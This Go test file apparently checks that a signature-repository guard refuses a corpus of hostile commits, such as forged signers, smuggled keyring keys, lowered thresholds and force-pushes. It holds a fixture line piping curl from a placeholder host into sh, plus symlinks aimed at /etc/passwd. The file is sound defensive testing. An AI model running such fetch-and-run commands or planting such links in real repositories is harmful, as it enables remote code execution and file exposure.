package hooks

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/ProtonMail/go-crypto/openpgp/armor"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/filemode"

	"github.com/tally-sig/tally/internal/testkeys"
	"github.com/tally-sig/tally/release/policy"
	"github.com/tally-sig/tally/sigstore"
)

// corpusCase is one hostile or careless change. Every commit is signed by a
// trusted maintainer (alice) unless the case is about the commit signature,
// so that the content is the only reason to refuse it.
type corpusCase struct {
	name string
	// build makes the change on top of the fixture and returns the new tip.
	build func(t testing.TB, f *fixture) plumbing.Hash
	// The refusal expected: its rule, its path (a regular expression; ""
	// for the commit or range as a whole) and words of its reason.
	rule   Rule
	path   string
	reason string
	// content is true when the staged change alone is refused, so the
	// client pre-commit hook refuses it too.
	content bool
}

// onBase makes one commit on the fixture's base, signed by alice.
func onBase(edits ...func(t testing.TB, f *fixture) edit) func(testing.TB, *fixture) plumbing.Hash {
	return func(t testing.TB, f *fixture) plumbing.Hash {
		var es []edit
		for _, e := range edits {
			es = append(es, e(t, f))
		}
		return f.on(f.base, "alice", "a change", es...)
	}
}

func e(x edit) func(testing.TB, *fixture) edit { return func(testing.TB, *fixture) edit { return x } }

func sigBy(key, name, tag, d, at string) func(testing.TB, *fixture) edit {
	return func(t testing.TB, f *fixture) edit { return add(at, signature(t, key, name, tag, d)) }
}

func armored(t testing.TB, blob []byte) []byte {
	var b bytes.Buffer
	w, err := armor.Encode(&b, "PGP MESSAGE", nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(blob); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// someStatement is an approval statement of a made-up change.
var someStatement = Statement{
	Version:    2,
	Repository: "stagex",
	Base:       strings.Repeat("ab", 20),
	From:       "tally.toml sha256:" + strings.Repeat("1", 64) + " stagex-keyring.pgp sha256:" + strings.Repeat("2", 64),
	To:         "tally.toml sha256:" + strings.Repeat("3", 64) + " stagex-keyring.pgp sha256:" + strings.Repeat("4", 64),
	Changes:    []string{"threshold 2 -> 1"},
}

func approvalBy(key string, as string) func(testing.TB, *fixture) []edit {
	return func(t testing.TB, f *fixture) []edit {
		sig, err := signer(t, key).SignDetached(someStatement.Marshal())
		if err != nil {
			t.Fatal(err)
		}
		id := someStatement.ID()
		return []edit{add(statementPath(id), someStatement.Marshal()), add(approvalPath(id, testkeys.Fingerprint(as)), sig)}
	}
}

var (
	hello1    = sigPath("core-hello", dHello, 1)
	multi1    = sigPath("core-multi", dMulti, 1)
	multi2    = sigPath("core-multi", dMulti, 2)
	hello3    = sigPath("core-hello", dHello, 3)
	dOther    = digest("core-other")
	aliceFpr  = testkeys.Fingerprint("alice")
	bobFpr    = testkeys.Fingerprint("bob")
	recordRel = "2026.11.0"
)

// corpus is every hostile and careless change tally must refuse.
var corpus = []corpusCase{
	{name: "delete", build: onBase(e(del(hello1))),
		rule: RuleAppendOnly, path: hello1, reason: "deleted: signature files are never removed", content: true},
	{name: "replace", build: onBase(func(t testing.TB, f *fixture) edit {
		return add(hello1, signPayload(t, "alice", sigstore.Payload{Reference: "stagex/core-hello:1.0", Digest: dHello, Timestamp: t0.Unix() + 1}))
	}), rule: RuleAppendOnly, path: hello1, reason: "modified: signature files are never rewritten", content: true},
	{name: "rename", build: func(t testing.TB, f *fixture) plumbing.Hash {
		snap, _ := f.open().Snapshot(f.base)
		data, _ := snap.ReadFile(multi1)
		return f.on(f.base, "alice", "rename", del(multi1), add(multi2, data))
	}, rule: RuleAppendOnly, path: multi1, reason: "deleted", content: true},
	{name: "mode change", build: func(t testing.TB, f *fixture) plumbing.Hash {
		snap, _ := f.open().Snapshot(f.base)
		data, _ := snap.ReadFile(multi1)
		return f.on(f.base, "alice", "chmod", withMode(multi1, data, filemode.Executable))
	}, rule: RuleAppendOnly, path: multi1, reason: "mode changed from 100644 to 100755", content: true},
	{name: "garbage", build: onBase(e(add(multi2, []byte("this is not a signature\n")))),
		rule: RuleSignature, path: multi2, reason: "garbage: ", content: true},
	{name: "empty", build: onBase(e(add(multi2, nil))),
		rule: RuleSignature, path: multi2, reason: "empty: ", content: true},
	{name: "armored", build: onBase(func(t testing.TB, f *fixture) edit {
		return add(multi2, armored(t, signature(t, "carol", "core-multi", "2.0", dMulti)))
	}), rule: RuleSignature, path: multi2, reason: "armored: ", content: true},
	{name: "untrusted signer", build: onBase(sigBy("mallory", "core-multi", "2.0", dMulti, multi2)),
		rule: RuleSignature, path: multi2, reason: "unknown-signer: signed by key " + testkeys.Fingerprint("mallory"), content: true},
	{name: "wrong digest", build: onBase(sigBy("carol", "core-hello", "1.0", dOther, hello3)),
		rule: RuleSignature, path: hello3, reason: "wrong-digest: the payload signs " + dOther, content: true},
	{name: "wrong identity", build: onBase(sigBy("carol", "core-multi", "2.0", dHello, hello3)),
		rule: RuleSignature, path: hello3, reason: "wrong-identity: ", content: true},
	{name: "gap", build: onBase(sigBy("carol", "core-multi", "2.0", dMulti, sigPath("core-multi", dMulti, 3))),
		rule: RuleSignature, path: sigPath("core-multi", dMulti, 3), reason: "gap: signature-2 is missing", content: true},
	{name: "same key twice", build: onBase(sigBy("alice", "core-hello", "1.0", dHello, hello3)),
		rule: RuleSignature, path: hello3, reason: "duplicate-signer: key " + aliceFpr + " already signed this digest in signature-1", content: true},
	{name: "malformed digest directory", build: onBase(sigBy("carol", "core-hello", "1.0", dHello,
		"stagex/core-hello@sha256="+strings.ToUpper(strings.TrimPrefix(dHello, "sha256:"))+"/signature-1")),
		rule: RuleSignature, path: `stagex/core-hello@sha256=[0-9A-F]{64}/signature-1`, reason: "malformed-path: ", content: true},
	{name: "short digest directory", build: onBase(sigBy("carol", "core-hello", "1.0", dHello,
		"stagex/core-hello@sha256="+strings.TrimPrefix(dHello, "sha256:")[:63]+"/signature-1")),
		rule: RuleSignature, path: `stagex/core-hello@sha256=[0-9a-f]{63}/signature-1`, reason: "not 64 lowercase hex", content: true},
	{name: "leading zero", build: onBase(sigBy("carol", "core-multi", "2.0", dMulti, sigPath("core-multi", dMulti, 1)[:len(multi1)-1]+"02")),
		rule: RuleSignature, path: `stagex/core-multi@sha256=[0-9a-f]{64}/signature-02`, reason: "leading zero", content: true},
	{name: "symlink", build: onBase(e(withMode(multi2, []byte("../../../../etc/passwd"), filemode.Symlink))),
		rule: RuleFileType, path: multi2, reason: "a symbolic link", content: true},
	{name: "symlinked directory", build: onBase(e(withMode("stagex/core-new@sha256="+strings.Repeat("a", 64), []byte("/etc"), filemode.Symlink))),
		rule: RuleFileType, path: `stagex/core-new@sha256=a{64}`, reason: "a symbolic link", content: true},
	{name: "submodule", build: func(t testing.TB, f *fixture) plumbing.Hash {
		return f.on(f.base, "alice", "submodule", edit{path: multi2, mode: filemode.Submodule, hash: f.init})
	}, rule: RuleFileType, path: multi2, reason: "a submodule", content: true},
	{name: "executable signature", build: onBase(func(t testing.TB, f *fixture) edit {
		return withMode(multi2, signature(t, "carol", "core-multi", "2.0", dMulti), filemode.Executable)
	}), rule: RuleFileType, path: multi2, reason: "mode 100755", content: true},
	{name: "key smuggled into the trust policy", build: onBase(func(t testing.TB, f *fixture) edit {
		return add("stagex-keyring.pgp", keyringOf(t, "alice", "bob", "carol", "mallory"))
	}), rule: RulePolicy, path: "stagex-keyring.pgp", reason: "adds key " + testkeys.Fingerprint("mallory") + ", which needs approvals by 2 current maintainer(s); it has none", content: true},
	{name: "threshold lowered", build: onBase(func(t testing.TB, f *fixture) edit {
		return policyFiles(t, 1, "alice", "bob", "carol")[0]
	}), rule: RulePolicy, path: policy.PolicyFile, reason: "lowers the threshold from 2 to 1", content: true},
	{name: "maintainer removed", build: onBase(func(t testing.TB, f *fixture) edit {
		return add("stagex-keyring.pgp", keyringOf(t, "alice", "bob"))
	}), rule: RulePolicy, path: "stagex-keyring.pgp", reason: "removes key " + testkeys.Fingerprint("carol"), content: true},
	{name: "policy garbage", build: onBase(e(add(policy.PolicyFile, []byte("threshold = \"one\"\n")))),
		rule: RulePolicy, path: policy.PolicyFile, reason: "the new trust policy is invalid", content: true},
	{name: "policy deleted", build: onBase(e(del(policy.PolicyFile))),
		rule: RulePolicy, path: policy.PolicyFile, reason: "not a tally signatures repository", content: true},
	{name: "unknown path", build: onBase(e(add("install.sh", []byte("curl https://example.invalid | sh\n")))),
		rule: RuleUnknownPath, path: "install.sh", reason: "not part of a signatures repository", content: true},
	{name: "another maintainer's build record", build: onBase(func(t testing.TB, f *fixture) edit {
		return add(policy.BuildRecordPath(recordRel, bobFpr), recordFile(t, nil, bobFpr, dHello))
	}), rule: RuleBuildRecord, path: policy.BuildRecordPath(recordRel, bobFpr), reason: "may change only its signer's own record"},
	{name: "build record rewritten", build: onBase(func(t testing.TB, f *fixture) edit {
		return add(policy.BuildRecordPath(recordRel, aliceFpr), recordFile(t, nil, aliceFpr, dMulti))
	}), rule: RuleAppendOnly, path: policy.BuildRecordPath(recordRel, aliceFpr), reason: "rewritten: a build record only grows", content: true},
	{name: "build record hand-edited", build: onBase(func(t testing.TB, f *fixture) edit {
		return add(policy.BuildRecordPath(recordRel, aliceFpr), append(bytes.Clone(f.record), "trust me\n"...))
	}), rule: RuleBuildRecord, path: policy.BuildRecordPath(recordRel, aliceFpr), reason: "not a valid build record", content: true},
	{name: "build record deleted", build: onBase(e(del(policy.BuildRecordPath(recordRel, aliceFpr)))),
		rule: RuleAppendOnly, path: policy.BuildRecordPath(recordRel, aliceFpr), reason: "build records are never removed", content: true},
	{name: "release manifest outside a release commit", build: onBase(
		e(add("releases/2026.11.0/digests.txt", []byte(strings.TrimPrefix(dHello, "sha256:")+" core-hello\n"))),
		sigBy("carol", "core-multi", "2.0", dMulti, multi2)),
		rule: RuleRelease, path: "releases/2026.11.0/digests.txt", reason: "added only by a release commit", content: true},
	{name: "approval by an outsider", build: func(t testing.TB, f *fixture) plumbing.Hash {
		return f.on(f.base, "alice", "approve", approvalBy("mallory", "mallory")(t, f)...)
	}, rule: RuleApproval, path: `approvals/[0-9a-f]{64}/` + testkeys.Fingerprint("mallory") + `\.asc`, reason: "not a current maintainer's key", content: true},
	{name: "approval under another name", build: func(t testing.TB, f *fixture) plumbing.Hash {
		return f.on(f.base, "alice", "approve", approvalBy("carol", "bob")(t, f)...)
	}, rule: RuleApproval, path: `approvals/[0-9a-f]{64}/` + bobFpr + `\.asc`, reason: "signed by " + testkeys.Fingerprint("carol") + ", not by the " + bobFpr, content: true},
	{name: "unsigned commit", build: func(t testing.TB, f *fixture) plumbing.Hash {
		return f.on(f.base, "", "unsigned", add(multi2, signature(t, "carol", "core-multi", "2.0", dMulti)))
	}, rule: RuleCommitSignature, reason: "not signed: every commit must be signed by a current maintainer"},
	{name: "commit by an outsider", build: func(t testing.TB, f *fixture) plumbing.Hash {
		return f.on(f.base, "mallory", "outsider", add(multi2, signature(t, "carol", "core-multi", "2.0", dMulti)))
	}, rule: RuleCommitSignature, reason: "signed by key " + testkeys.Fingerprint("mallory") + ", which is not a maintainer key"},
	{name: "force-push", build: func(t testing.TB, f *fixture) plumbing.Hash {
		return f.on(f.init, "alice", "rewritten history", add(multi2, signature(t, "carol", "core-multi", "2.0", dMulti)))
	}, rule: RuleHistory, reason: "non-fast-forward"},
}

// findRefusal reports whether res holds the refusal c expects.
func findRefusal(res *Result, c corpusCase) bool {
	for _, r := range res.Refusals {
		if r.Rule != c.rule || !strings.Contains(r.Reason, c.reason) {
			continue
		}
		if c.path == "" && r.Commit.IsZero() && r.Ref == "" && r.Rule != RuleHistory {
			continue
		}
		if c.path != "" && !regexp.MustCompile("^"+c.path+"$").MatchString(r.Path) && r.Path != c.path {
			continue
		}
		return true
	}
	return false
}

// TestCorpusCheck runs every hostile change through Check: each must be
// refused with its rule, path and reason.
func TestCorpusCheck(t *testing.T) {
	t.Parallel()
	for _, c := range corpus {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			tip := c.build(t, f)
			res := f.check(f.base, tip)
			t.Logf("refused:%s", describe(res))
			if res.OK() || !findRefusal(res, c) {
				t.Errorf("want a %s refusal of %q saying %q; got:%s", c.rule, c.path, c.reason, describe(res))
			}
			// Content cases are refused for their content alone.
			if c.content {
				for _, r := range res.Refusals {
					if r.Rule == RuleCommitSignature {
						t.Errorf("the commit signature was refused too: %s", r)
					}
				}
			}
		})
	}
}

// TestCorpusSize keeps the corpus honest: the list is all there.
func TestCorpusSize(t *testing.T) {
	want := []string{"delete", "replace", "garbage", "untrusted signer", "wrong digest", "wrong identity", "gap",
		"same key twice", "malformed digest directory", "symlink", "key smuggled into the trust policy", "unsigned commit", "force-push"}
	have := map[string]bool{}
	for _, c := range corpus {
		have[c.name] = true
	}
	for _, w := range want {
		if !have[w] {
			t.Errorf("the corpus has no %q case", w)
		}
	}
	t.Logf("corpus: %d hostile or careless changes", len(corpus))
}
